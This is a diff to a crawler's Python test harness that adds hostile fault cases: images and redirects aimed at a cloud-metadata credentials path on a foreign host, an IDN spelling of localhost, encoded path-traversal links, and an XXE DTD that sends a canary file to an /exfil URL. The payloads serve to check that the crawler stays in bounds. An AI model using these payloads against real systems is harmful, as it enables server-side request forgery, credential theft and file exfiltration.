@@ -106,6 +106,15 @@ _CATALOGUE = (
     Fault("control_chars", HOSTILE, "C0 and C1 control characters and invalid character references"),
     Fault("invalid_utf8", HOSTILE, "byte sequences that are not UTF-8 in the headline and the body"),
     Fault("meta_refresh", HOSTILE, "served as text/html, a meta refresh to another host in the body"),
+    Fault("off_site_image", HOSTILE, "a body image at a cloud-metadata path on a foreign host"),
+    Fault("off_site_image_list", HOSTILE, "the image list naming a foreign host's metadata path"),
+    Fault("off_site_relative_path", HOSTILE, "RelativePath on a foreign host, so the image list resolves there"),
+    Fault("off_site_scheme_relative", HOSTILE, "a //host:port/ image on a foreign host"),
+    Fault("off_site_idn", HOSTILE, "an image on an IDN host that maps to the foreign host's other name (localhost)"),
+    Fault("off_site_redirect", HOSTILE, "a redirect to a foreign host's metadata path", saved=False),
+    Fault("path_tricks", HOSTILE, "listing links and an image whose paths leave the section or reach print/ "
+                                  "through dot segments and escaped separators"),
+    Fault("image_url_spellings", HOSTILE, "images spelled with a space, non-ASCII and an IDN host (of localhost)"),
 )
 
 FAULTS: dict[str, Fault] = {fault.name: fault for fault in _CATALOGUE}
@@ -207,6 +216,31 @@ paths over the file system's limits; a query that climbs. Collisions: case, quer
 (the same resource), a name against its own temporary-file name. And a user-info host trick.
 """
 
+FOREIGN_SECRET = b"SASSCRAWL-FOREIGN-SECRET-7d2a"
+"""In every answer of the foreign host (``ForeignSite``): it must never reach the data folder."""
+METADATA_PATH = "/latest/meta-data/iam/security-credentials/"
+IDN_LOCALHOST = "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"
+"""UTS 46 maps it to ``localhost``: an IDN spelling of a host that is not the one it looks like."""
+PATH_TRICK_LINKS = (
+    "/{section}/..%5C..%5C104/default.aspx",
+    "/{section}/..;/104/default.aspx",
+    "/{section}/x/..%2Fprint/{id}.aspx",
+    "/{section}/%2e%2e/104/default.aspx",
+    "/{section}/..\\..\\104\\default.aspx",
+    "/{section}/x/%252e%252e/print/{id}.aspx",
+    "/{section}//print/{id}.aspx",
+)
+"""On listing page 1 with path_tricks (``{id}``: its article). Read by a server that decodes escapes (IIS does),
+each leaves the section or lands on the print copy robots.txt disallows."""
+PATH_TRICK_IMAGE = "/upload/x/..%2F..%2F{section}/print/{id}.aspx"
+SPELLING_IMAGE_MARKER = "sasscrawl-spelling"
+SPELLING_IMAGES = (
+    "/upload/{m}/a b.jpeg",
+    "/upload/{m}/图片.jpeg",
+    "http://" + IDN_LOCALHOST + ":{port}/upload/{m}/idn.jpeg",
+)
+"""Image ``src``s of the image_url_spellings article: each is sent under another spelling than the page's."""
+
 _CONTROLS = "\x01\x1b\x7f\x9b\x85"
 _INVALID_REFERENCES = "&#xD800;&#x1b;&#0;&#xFFFE;&#xDFFF;"
 CONTROL_PAYLOADS = (
@@ -235,6 +269,12 @@ class FaultPlan:
     canary_path: str
     """A local file whose content must never reach the dataset, the log or the server."""
     stall_seconds: float
+    foreign_host: str | None = None
+    """``host:port`` the off-site faults point at (a ``ForeignSite`` server); None: the replica's own other name."""
+
+    def foreign(self, other_host: str) -> str:
+        """Where the off-site faults point: ``foreign_host``, or else the replica's other name ``other_host``."""
+        return self.foreign_host or other_host
 
     @property
     def saved_ids(self) -> set[int]:
@@ -264,6 +304,8 @@ class FaultPlan:
             "control_chars": CONTROL_PAYLOADS,
             "invalid_utf8": tuple(repr(sequence) for sequence in INVALID_UTF8),
             "deep_nesting": ("nesting at the end of the CDATA body", "nesting in the XML after the article"),
+            "path_tricks": (*PATH_TRICK_LINKS, PATH_TRICK_IMAGE),
+            "image_url_spellings": SPELLING_IMAGES,
         }
         return {name: payloads.get(name, (FAULTS[name].description,))
                 for name in sorted(self.names) if FAULTS[name].group == HOSTILE}
@@ -290,6 +332,19 @@ def hostile_image(seed: int, path_with_query: str) -> Response:
     return Response(200, [("Content-Type", content_type)], data)
 
 
+class ForeignSite:
+    """A foreign host for ``ReplicaServer``: whatever it is asked, it answers 200 with ``FOREIGN_SECRET``.
+
+    Served on another port, it stands for every host a crawl of the section must never contact (a
+    cloud metadata service, an intranet): a test reads its request log, which must stay empty.
+    """
+
+    def response(self, method: str, path_with_query: str, host: str) -> Response:
+        if path_with_query == "/robots.txt":
+            return Response(200, [("Content-Type", "text/plain")], b"User-agent: *\nAllow: /\n")
+        return Response(200, [("Content-Type", "image/jpeg")], FOREIGN_SECRET + b" " + path_with_query.encode())
+
+
 def evil_dtd(host: str) -> Response:
     """The external DTD an XXE would load: it would define an entity sending the canary to /exfil."""
     dtd = f"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://{host}/exfil?%file;'>\">\n%all;\n"
@@ -314,7 +369,7 @@ def listing_response(plan: FaultPlan, number: int, attempt: int, good: Response)
 
 def listing_links(plan: FaultPlan, section: str, number: int, visit: int, host: str,
                   other_host: str) -> tuple[Link, ...]:
-    """Extra links of listing page ``number``: duplicates, dangerous URLs, the endless self-link."""
+    """Extra links of listing page ``number``: duplicates, dangerous URLs, path tricks, the endless self-link."""
     links = []
     if number == 1 and "duplicate_urls" in plan.names:
         article_id = plan.article_ids["duplicate_urls"]
@@ -324,6 +379,9 @@ def listing_links(plan: FaultPlan, section: str, number: int, visit: int, host: 
     if number == 1 and "dangerous_urls" in plan.names:
         links += [Link(href.format(canary=plan.canary_path, host=host, other_host=other_host, section=section),
                        "Dangerous") for href in LISTING_LINKS]
+    if number == 1 and "path_tricks" in plan.names:
+        links += [Link(href.format(section=section, id=plan.article_ids["path_tricks"]), "Trick")
+                  for href in PATH_TRICK_LINKS]
     if "self_linking_listing" in plan.names:
         links.append(Link(f"default.aspx?page={number}&visit={visit}", "This page again"))
     return tuple(links)
@@ -415,11 +473,36 @@ def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: 
             return xml_response(_control_chars(xml))
         case "invalid_utf8":
             return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _invalid_utf8(xml))
+        case "off_site_image" | "off_site_scheme_relative" | "off_site_idn" | "image_url_spellings" | "path_tricks":
+            return xml_response(_end_of_body(xml, _extra_body(plan, name, path, host, other_host)))
+        case "off_site_image_list":
+            list_item = f"<li>http://{plan.foreign(other_host)}{METADATA_PATH}list.jpeg</li>"
+            return xml_response(xml.replace("<li />", list_item, 1))
+        case "off_site_redirect":
+            return redirect(302, f"http://{plan.foreign(other_host)}{METADATA_PATH}{Path(path).name}")
+        case "off_site_relative_path":
+            xml = xml.replace('RelativePath="/"', f'RelativePath="http://{plan.foreign(other_host)}{METADATA_PATH}"', 1)
+            return xml_response(xml.replace("<li />", "<li>relative.jpeg</li>", 1))
         case "meta_refresh":
             refresh = f'<meta http-equiv="refresh" content="0; url=http://{other_host}{path}">'
             return xml_response(xml.replace("<![CDATA[", "<![CDATA[" + refresh, 1),
                                 content_type="text/html; charset=utf-8")
     return xml_response(xml)
+
+
+def _extra_body(plan: FaultPlan, name: str, path: str, host: str, other_host: str) -> str:
+    """The images the off-site, path trick and spelling faults add to an article's body."""
+    foreign = plan.foreign(other_host)
+    section, article_id = path.strip("/").removesuffix(".aspx").split("/")
+    images = {
+        "off_site_image": [f"http://{foreign}{METADATA_PATH}body.jpeg"],
+        "off_site_scheme_relative": [f"//{foreign}{METADATA_PATH}scheme-relative.jpeg"],
+        "off_site_idn": [f"http://{IDN_LOCALHOST}:{foreign.rpartition(':')[2]}{METADATA_PATH}idn.jpeg"],
+        "image_url_spellings": [src.format(m=SPELLING_IMAGE_MARKER, port=host.rpartition(":")[2])
+                                for src in SPELLING_IMAGES],
+        "path_tricks": [PATH_TRICK_IMAGE.format(section=section, id=article_id)],
+    }[name]
+    return "".join(f'<p><img src="{escape_attr(src)}" /></p>' for src in images)
 
 
 def _number(query: dict[str, list[str]], name: str) -> int:
